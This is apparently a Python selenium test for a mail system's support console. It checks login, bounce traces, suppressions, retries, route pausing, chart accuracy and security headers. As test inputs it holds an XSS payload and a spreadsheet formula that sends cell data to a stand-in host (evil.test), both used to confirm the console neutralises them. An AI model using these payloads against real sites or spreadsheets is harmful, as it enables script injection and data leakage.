"""The support console in headless Chromium (Debian's chromium and
chromium-driver, driven by selenium). Called by tests/console.rs with the
console URL, the API token and the ids of the mail it sent; exits non-zero
with a message on the first check that fails.

usage: console_test.py BASE_URL TOKEN DEFERRED_ID SCREENSHOT_DIR
"""
import csv, json, os, sys, tempfile, urllib.request

from browser import Browser

from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import WebDriverWait

base, token, deferred_id, shots = sys.argv[1:5]
HOSTILE = "<img src=x onerror=alert(1)>"

b = Browser(base, token)
driver, wait, check = b.driver, b.wait, b.check


def text(css):
    return wait.until(EC.presence_of_element_located((By.CSS_SELECTOR, css))).text


api = b.api


def no_alert():
    try:
        driver.switch_to.alert
        return False
    except NoAlertPresentException:
        return True


try:
    # A wrong token shows the login prompt again, never data.
    driver.get(base + "/console/#/trace/gone@dest.test")
    wait.until(EC.visibility_of_element_located((By.ID, "token"))).send_keys("wrong-token-0123456789")
    driver.find_element(By.ID, "login-button").click()
    wait.until(EC.visibility_of_element_located((By.ID, "login-error")))
    check("refused" in driver.find_element(By.ID, "login-error").text, "a wrong token is refused")
    check(driver.find_element(By.ID, "view").text == "", "no data behind a wrong token")
    tok = driver.find_element(By.ID, "token")
    tok.clear()
    tok.send_keys(token)
    driver.find_element(By.ID, "login-button").click()

    # The pasted link lands on the trace of the bounced address.
    diag = text("#diagnosis")
    check("remove it from your platform" in diag, "diagnosis of a hard bounce: " + diag)
    events = text("#events")
    check("bounced" in events and "hard" in events, "the bounce and its class are listed")
    check("Suppressed since" in text("#suppression"), "the suppression is shown")
    driver.save_screenshot(shots + "/console-trace.png")

    # Search by address through the box.
    q = driver.find_element(By.ID, "q")
    q.clear()
    q.send_keys("hostile@dest.test\n")
    wait.until(EC.text_to_be_present_in_element((By.ID, "addr"), "hostile@dest.test"))
    events = text("#events")
    check(HOSTILE in events, "the hostile subject is shown as text")
    check(len(driver.find_elements(By.CSS_SELECTOR, "#events img")) == 0, "no element made from the subject")
    check(no_alert(), "no script ran")

    # Suppressions: Export CSV writes no cell a spreadsheet would run.
    formula = '=HYPERLINK("http://evil.test/x?"&A2,"click")'
    req = urllib.request.Request(base + "/api/v1/suppressions", method="POST",
                                 data=json.dumps({"addr": "formula@dest.test", "reason": formula}).encode(),
                                 headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
    urllib.request.urlopen(req).read()
    downloads = tempfile.mkdtemp()
    driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": downloads})
    driver.get(base + "/console/#/suppressions")
    wait.until(EC.element_to_be_clickable((By.ID, "export"))).click()
    path = os.path.join(downloads, "suppressions.csv")
    WebDriverWait(driver, 15).until(lambda d: os.path.exists(path) and os.path.getsize(path) > 0)
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows for c in r]
    check(any(formula in c for c in cells), "the reason is exported: %r" % rows)
    check(not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells),
          "no cell starts a formula: %r" % rows)
    req = urllib.request.Request(base + "/api/v1/suppressions/formula@dest.test", method="DELETE",
                                 headers={"Authorization": "Bearer " + token})
    urllib.request.urlopen(req).read()

    # Suppressions: Remove lifts the address.
    driver.get(base + "/console/#/suppressions")
    wait.until(EC.presence_of_element_located((By.CSS_SELECTOR, "button.remove[data-addr='gone@dest.test']"))).click()
    driver.switch_to.alert.accept()
    wait.until(lambda d: "gone@dest.test" not in d.find_element(By.ID, "view").text)
    check("Suppressions (0)" in text("h1"), "the suppression list is empty")

    # Retry and Cancel on the deferred message.
    driver.get(base + "/console/#/message/" + deferred_id)
    check("deferred" in text("#rcpts"), "the deferred recipient is listed")
    driver.find_element(By.ID, "retry").click()
    wait.until(EC.text_to_be_present_in_element((By.ID, "action-result"), "due now"))
    check(True, "Retry now")
    wait.until(EC.element_to_be_clickable((By.ID, "cancel"))).click()
    driver.switch_to.alert.accept()
    wait.until(EC.presence_of_element_located((By.ID, "state")))
    check("No longer queued" in text("#state"), "Cancel")

    # Queue: one route paused and resumed from the page.
    driver.get(base + "/console/#/queue")
    wait.until(EC.element_to_be_clickable((By.CSS_SELECTOR, "button.route-pause[data-route='up']"))).click()
    wait.until(EC.text_to_be_present_in_element((By.ID, "routes"), "PAUSED"))
    check(api("/status")["paused_routes"] == ["up"], "route up paused through the page")
    wait.until(EC.element_to_be_clickable((By.CSS_SELECTOR, "button.route-pause[data-route='up']"))).click()
    wait.until(lambda d: "PAUSED" not in d.find_element(By.ID, "routes").text)
    check(api("/status")["paused_routes"] == [], "route up resumed")

    # Overview: the chart has a point per hour and series, and its counts
    # are what the events API says.
    driver.get(base + "/console/#/")
    wait.until(EC.presence_of_element_located((By.ID, "chart")))
    points = driver.find_elements(By.CSS_SELECTOR, "#chart circle.point")
    check(len(points) == 24 * 4, "%d points" % len(points))
    for kind in ("delivered", "bounced", "deferred"):
        drawn = sum(int(p.get_attribute("data-count")) for p in
                    driver.find_elements(By.CSS_SELECTOR, "#chart circle.point." + kind))
        told = len(api("/events?limit=1000&since=24h&event=" + kind)["events"])
        check(drawn == told and told > 0, "%s: chart %d, API %d" % (kind, drawn, told))
    # It has a scale a person can read numbers off: 0, half and a round top
    # at or above the highest point, and hours along the bottom.
    ticks = [float(t.get_attribute("data-value")) for t in driver.find_elements(By.CSS_SELECTOR, "#chart text.y-tick")]
    highest = max(int(p.get_attribute("data-count")) for p in points)
    check(len(ticks) == 3 and ticks[0] == 0 and ticks[2] >= highest and ticks[1] == ticks[2] / 2,
          "y axis %r for a highest count of %d" % (ticks, highest))
    hours = [t.text for t in driver.find_elements(By.CSS_SELECTOR, "#chart text.x-tick")]
    check(len(hours) == 5 and all(h.endswith("UTC") for h in hours[:4]) and hours[4] == "now", "x axis %r" % hours)
    # The highest point sits on the scale where its number says.
    top = max(points, key=lambda p: int(p.get_attribute("data-count")))
    grid_top = [t for t in driver.find_elements(By.CSS_SELECTOR, "#chart text.y-tick")][2]
    y_top = float(grid_top.get_attribute("y")) - 4
    y_zero = float(driver.find_elements(By.CSS_SELECTOR, "#chart text.y-tick")[0].get_attribute("y")) - 4
    expect = y_zero - (y_zero - y_top) * int(top.get_attribute("data-count")) / ticks[2]
    check(abs(float(top.get_attribute("cy")) - expect) < 0.5, "point at %s, scale says %s" % (top.get_attribute("cy"), expect))
    driver.save_screenshot(shots + "/console-overview.png")
    # The page's own policy headers.
    resp = urllib.request.urlopen(base + "/console/")
    csp = resp.headers.get("Content-Security-Policy", "")
    check("default-src 'self'" in csp and "frame-ancestors 'none'" in csp, "CSP: " + csp)
    check(resp.headers.get("X-Content-Type-Options") == "nosniff", "nosniff")
    check(resp.headers.get("Referrer-Policy") == "no-referrer", "no-referrer")
finally:
    driver.quit()
print("console: all checks passed")
